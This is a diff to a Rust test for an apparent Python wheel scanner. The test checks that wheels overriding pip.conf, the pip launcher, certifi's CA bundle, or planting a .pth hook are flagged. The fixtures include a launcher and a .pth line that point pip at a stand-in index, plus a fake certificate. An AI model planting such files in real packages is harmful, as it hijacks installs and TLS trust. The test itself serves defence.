@@ -2666,13 +2666,15 @@ fn is_number_wheel(c: &Canary, name: &str, added: &[(&str, &[u8])]) -> std::path
 /// wheel is allowed; with a `pip.conf` that pip installs as the
 /// environment's configuration (checked with pip 23.2: `pip config list`
 /// then shows the planted index), a `pip` launcher over the environment's
-/// own (or a console script that makes pip write one), or a `.pth` that
-/// sets pip's index in every Python process, each was
+/// own (or a console script that makes pip write one), a CA bundle over
+/// certifi's (which requests trusts), or a `.pth` that sets pip's index in
+/// every Python process, each was
 /// allowed too (the `.pth` with the veto off; with it on, the veto reads
-/// its `os.environ`). Now the first two are inconclusive whatever
-/// detectors say, and the third is not allowed on scores alone. The same
-/// `pip.conf` in a zip pip does not install as a wheel, or in the
-/// package's own folder, changes nothing.
+/// its `os.environ`). Now the files over others' are inconclusive
+/// whatever detectors say, and the `.pth` is not allowed on scores alone.
+/// The same `pip.conf` in a zip pip does not install as a wheel, or in the
+/// package's own folder, and the CA bundle in certifi's own wheel, change
+/// nothing.
 #[test]
 fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
     let c = Canary::new();
@@ -2682,6 +2684,8 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
     let launcher: &[u8] =
         b"#!/bin/sh\nexec python3 -m pip --index-url https://pypi.example.net/simple \"$@\"\n";
     let entry: &[u8] = b"[console_scripts]\npip = is_number:main\n";
+    let pem: &[u8] =
+        b"-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUb2lZ\n-----END CERTIFICATE-----\n";
     let pth: &[u8] =
         b"import os; os.environ.setdefault('PIP_INDEX_URL', 'https://pypi.example.net/simple')\n";
 
@@ -2706,6 +2710,7 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
         ("is_number-7.0.0.data/data/pip.conf", conf, "own"),
         ("is_number-7.0.0.data/scripts/pip", launcher, "own"),
         ("is_number-7.0.0.dist-info/entry_points.txt", entry, "own"),
+        ("certifi/cacert.pem", pem, "own"),
         ("is_number_hook.pth", pth, "scores"),
     ] {
         let p = is_number_wheel(&c, "planted.whl", &[(member, data)]);
@@ -2715,7 +2720,10 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
         let note = pre["note"].as_str().unwrap();
         assert!(note.contains(member), "{note}");
         let (says, reviewed) = match dir {
-            "own" => ("replaces 1 of the environment's own file(s)", false),
+            "own" => (
+                "replaces 1 file(s) that the environment or another distribution owns",
+                false,
+            ),
             _ => ("run by themselves", true),
         };
         assert!(note.contains(says), "{note}");
@@ -2724,11 +2732,13 @@ fn a_wheel_that_replaces_the_environment_s_files_is_not_cleared() {
         let review = r["policies"][0].get("review");
         assert_eq!(review.is_some(), reviewed, "{r:#}");
     }
-    for (name, member) in [
-        ("planted.zip", "is_number-7.0.0.data/data/pip.conf"),
-        ("own-folder.whl", "is_number/pip.conf"),
+    for (name, member, data) in [
+        ("planted.zip", "is_number-7.0.0.data/data/pip.conf", conf),
+        ("own-folder.whl", "is_number/pip.conf", conf),
+        // certifi's own wheel installs its CA bundle.
+        ("certifi-2026.1-py3-none-any.whl", "certifi/cacert.pem", pem),
     ] {
-        let (o, r) = scan(&is_number_wheel(&c, name, &[(member, conf)]));
+        let (o, r) = scan(&is_number_wheel(&c, name, &[(member, data)]));
         assert_reason(&o, &r, (0, "precheck-harmless"));
     }
 }
